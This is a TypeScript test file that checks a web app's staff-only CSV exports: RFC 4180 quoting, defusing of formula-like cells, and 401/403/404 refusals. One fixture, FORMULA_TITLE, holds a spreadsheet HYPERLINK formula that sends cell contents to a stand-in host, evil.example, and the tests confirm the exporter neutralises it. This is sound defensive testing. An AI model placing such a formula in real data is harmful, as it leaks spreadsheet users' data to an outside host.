import { startTestApp, type TestApp } from '../testkit/test-app';
import { registerOrganisation, registerStaff, type Account } from '../testkit/accounts';
import { openChallenge } from '../testkit/challenges';
import { completedPilot, introducedMatch } from '../testkit/pilots';
import { csvCell } from '../../server/src/reporting/csv';

/**
 * The staff CSV exports over HTTP against the real database: streamed with a CSV content type,
 * RFC 4180 quoting, text that a spreadsheet would run as a formula defused, and JSON refusals
 * for anyone but staff.
 */

let app: TestApp;
let staff: Account;
let council: Account;
let startup: Account;
let challengeId: string;
let pilotId: string;

const FORMULA_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
const STOP_REASON = '-2+3 "officers" could not, in the end,\nuse it offline';

/** Parses RFC 4180 CSV (quoted cells may hold commas, quotes and line breaks) into rows of cells. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const char = text[i]!;
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') (cell += '"'), (i += 1);
      else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') row.push(cell), (cell = '');
    else if (char === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      (row = []), (cell = ''), (i += 1);
    } else cell += char;
  }
  return rows;
}

async function download(account: Account | undefined, path: string) {
  const agent = account ? account.session.agent : app.session().agent;
  return agent.get(path).buffer(true).parse((res, callback) => {
    let body = '';
    res.setEncoding('utf8');
    res.on('data', (chunk: string) => (body += chunk));
    res.on('end', () => callback(null, body));
  });
}

const recordsOf = (csv: string) => {
  const [header, ...rows] = parseCsv(csv);
  return rows.map((row) => Object.fromEntries(header!.map((name, index) => [name, row[index]])));
};

beforeAll(async () => {
  app = await startTestApp({ LOGIN_MAX_ATTEMPTS: '1000' }, { search: true });
  staff = await registerStaff(app);
  council = await registerOrganisation(app, 'PUBLIC_BODY', { name: '@Council, "North"' });
  startup = await registerOrganisation(app, 'STARTUP', { name: '+Startup' });
  challengeId = (await openChallenge(council, staff.session, { title: FORMULA_TITLE })).id;
  const matchId = await introducedMatch(staff.session, council, startup, challengeId);
  pilotId = await completedPilot(staff.session, matchId, { outcome: 'STOPPED', stopReason: STOP_REASON }, [{ kpiName: 'cases investigated within timescale', value: 61 }]);
}, 180_000);
afterAll(() => app.close());

describe('CSV cells', () => {
  it('defuse formula starts and quote what needs quoting, leaving figures alone', () => {
    expect(['=1+1', '+44 20', '-x', '@SUM(A1)', '\tcmd', '\rcmd'].map(csvCell)).toEqual(["'=1+1", "'+44 20", "'-x", "'@SUM(A1)", "'\tcmd", `"'\rcmd"`]);
    expect(csvCell('a "b", c')).toBe('"a ""b"", c"');
    expect(csvCell('line\nbreak')).toBe('"line\nbreak"');
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell(new Date('2027-01-01T00:00:00.000Z'))).toBe('2027-01-01T00:00:00.000Z');
    expect(csvCell(null)).toBe('');
  });
});

describe('GET /export/<kind>.csv', () => {
  it('streams challenges as CSV, formula-like text defused', async () => {
    const response = await download(staff, '/export/challenges.csv');
    expect(response.status).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toBe('attachment; filename="pilotline-challenges.csv"');
    const records = recordsOf(response.body as string);
    const challenge = records.find((record) => record.id === challengeId)!;
    expect(challenge).toMatchObject({ title: `'${FORMULA_TITLE}`, 'public body': `'@Council, "North"`, status: 'OPEN', sectors: 'HOUSING; HEALTH_AND_CARE', region: 'LONDON' });
    expect(challenge['budget max (GBP)']).toBe('250000');
  });

  it('streams matches and pilots, every cell intact through quoting', async () => {
    const matches = recordsOf((await download(staff, '/export/matches.csv')).body as string);
    expect(matches).toHaveLength(1);
    expect(matches[0]).toMatchObject({ 'challenge id': challengeId, 'start-up': "'+Startup", status: 'ACCEPTED', source: 'STAFF' });

    const pilots = recordsOf((await download(staff, '/export/pilots.csv')).body as string);
    expect(pilots).toHaveLength(1);
    expect(pilots[0]).toMatchObject({
      id: pilotId,
      status: 'COMPLETED',
      outcome: 'STOPPED',
      'stop reason': `'${STOP_REASON}`,
      KPIs: 'cases investigated within timescale: 48 → 100 % of cases, latest 61 (25%)',
    });
  });

  it('answers JSON refusals: 401 signed out, 403 for anyone but staff, 404 for an unknown export', async () => {
    const anonymous = await app.session().agent.get('/export/pilots.csv');
    expect(anonymous.status).toBe(401);
    expect(anonymous.body.error.code).toBe('UNAUTHENTICATED');
    for (const account of [council, startup]) {
      const refused = await account.session.agent.get('/export/pilots.csv');
      expect(refused.status).toBe(403);
      expect(refused.body.error.code).toBe('FORBIDDEN');
      expect(refused.headers['content-type']).toMatch(/^application\/json/);
    }
    const unknown = await staff.session.agent.get('/export/users.csv');
    expect(unknown.status).toBe(404);
    expect(unknown.body.error.code).toBe('NOT_FOUND');
  });
});
